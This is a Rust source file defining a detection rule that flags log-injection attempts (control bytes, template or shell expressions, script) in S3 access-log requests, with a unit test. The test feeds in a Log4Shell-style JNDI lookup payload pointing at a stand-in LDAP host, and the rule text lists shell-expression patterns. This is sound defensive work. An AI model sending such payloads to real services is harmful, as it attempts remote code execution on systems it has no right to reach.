//! Texts that are meant for whoever reads the log.

use crate::detect::config::RuleSettings;
use crate::detect::event::{Event, fact};
use crate::detect::finding::{Finding, Severity};
use crate::detect::groups::Groups;
use crate::detect::known::Known;
use crate::detect::rule::{About, Rule};
use crate::detect::shelf::Room;

/// The rule.
pub(crate) struct LogInjection {
    groups: Groups,
}

impl Rule for LogInjection {
    const ABOUT: &'static About = &About {
        id: "log-injection",
        title: "A client writes commands or fields into the log",
        severity: Severity::Low,
        tactic: "TA0001 Initial Access",
        technique: "T1190 Exploit Public-Facing Application",
        fires: "The request URI, the referer or the user agent holds control bytes, a quote with a status after it, a template or a shell expression \
                (`${`, `$(`, backticks), or a script, plain or URL-encoded. One finding for each requester; of those without credentials, for each bucket.",
        unseen: "Whether any program that reads these logs runs it. Quotes alone are ordinary: presigned URLs and pip send them.",
        next: "s3al reads such lines right and shows such texts harmlessly. See whether your other readers of these logs do.",
        ..About::DEFAULT
    };
    const WANTS: u32 = fact::ODD_TEXT;

    fn new(_: &RuleSettings, _: &Room) -> Self {
        Self { groups: Groups::default() }
    }

    fn add(&mut self, event: &Event<'_, '_>) {
        self.groups.add(event.party(), event);
    }

    groups!();

    fn findings(&mut self, _: &Known<'_>) -> Vec<Finding> {
        let finding = |hits: &crate::detect::hits::Hits| {
            let finding = Finding::of(Self::ABOUT, hits, "the text could be taken for a command or for fields of the log");
            let finding = if hits.identity().is_none() { finding.at_address() } else { finding };
            match hits.examples.list() {
                // Few enough to be named.
                all if all.len() as u64 == hits.count => {
                    let ids: Vec<_> = all
                        .iter()
                        .filter_map(|one| one.get(crate::record::Field::RequestId))
                        .map(crate::detect::finding::glob)
                        .collect();
                    finding.show("--where", format!("request_id={}", ids.join(",")))
                }
                _ => finding,
            }
        };
        self.groups.all().map(|(_, hits)| finding(hits)).collect()
    }
}

#[cfg(test)]
mod tests {
    use crate::detect::testing::{at, found};

    #[test]
    fn in_any_text_of_the_client() {
        let odd = at(1, 0).anonymous().id("A1").agent("${jndi:ldap://x/a}").status("403 AccessDenied");
        let lines = [odd.clone(), odd.id("A2").agent("x").uri("GET /%24%7Bx HTTP/1.1"), at(1, 0)];
        let [finding] = &found("log-injection", &lines)[..] else { panic!() };
        assert_eq!(finding.count, 2);
        assert!(finding.show.contains(&("--where", "request_id=A1,A2".into())), "{:?}", finding.show);
        let near = [at(1, 0).agent("pip/23 {\"ci\":null}"), at(1, 0).uri("GET /a%20b HTTP/1.1")];
        assert!(found("log-injection", &near).is_empty());
    }
}
